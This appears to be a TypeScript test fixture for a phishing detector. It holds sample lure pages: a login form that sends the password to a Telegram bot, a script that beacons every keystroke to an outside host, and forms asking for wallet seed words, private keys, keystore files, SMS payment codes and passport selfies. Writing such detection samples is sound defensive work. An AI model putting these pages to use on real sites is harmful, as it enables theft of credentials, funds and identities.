import type { HonestPage } from './honest-page.ts';
import { form, honestHtml, input } from './honest-page.ts';

const words = Array.from({ length: 12 }, (_, n) => `<span>${n + 1}.</span><input name="w${n}">`);
const lure = (name: string, title: string, body: string): HonestPage => ({ name, html: honestHtml({ title, body }) });

/** Pages that no honest site has, though they pose as nobody. */
export const luresWithoutName: readonly HonestPage[] = [
  lure(
    'a password sent to a bot',
    'Login',
    `<form onsubmit="fetch('https://api.telegram.org/bot1:AA/sendMessage?chat_id=1&text='+p.value);return false"><input name="e"><input id="p" type="password"><button>Log in</button></form>`,
  ),
  lure(
    'each key sent to another site',
    'Login',
    '<form><input name="e"><input type="password" name="p"></form><script>document.onkeyup=function(e){navigator.sendBeacon("https://x.fontanawerk.pages.dev/k",e.key)}</script>',
  ),
  lure(
    'a private key for an airdrop',
    'Claim your airdrop',
    `<h1>Claim your airdrop</h1>${form('/w', ['<label>Private key<input name="k"></label>'], 'Claim')}`,
  ),
  lure('twelve words of a wallet', 'Import wallet', `<h1>Import wallet</h1>${form('/w', words, 'Import')}`),
  lure(
    'the words of a wallet in one field',
    'Restore wallet',
    `<h1>Restore wallet</h1>${form('/w', ['<textarea name="d1" placeholder="Enter your words separated by spaces"></textarea>'], 'Import')}`,
  ),
  lure(
    'the key file of a wallet and its password',
    'Unlock wallet',
    `<h1>Unlock your wallet</h1>${form('/w', [input('Keystore file', 'file', 'k'), input('Password', 'password', 'p')], 'Unlock')}`,
  ),
  lure(
    'the code of a payment',
    'Payment authentication',
    `<h1>Payment authentication</h1><p>Amount 1.99 EUR. Card **** 4242. We have sent a code to your phone. Do not close this window.</p>${form('sms.php', ['<label>Code<input name="c"></label>'], 'Confirm')}`,
  ),
  lure(
    'passport and selfie for a limited account',
    'Verification',
    `<h1>Verify your identity</h1><p>Your account is limited. Upload your passport and a selfie.</p>${form('u.php', [input('Passport', 'file', 'a'), input('Selfie', 'file', 'b')], 'Submit')}`,
  ),
];
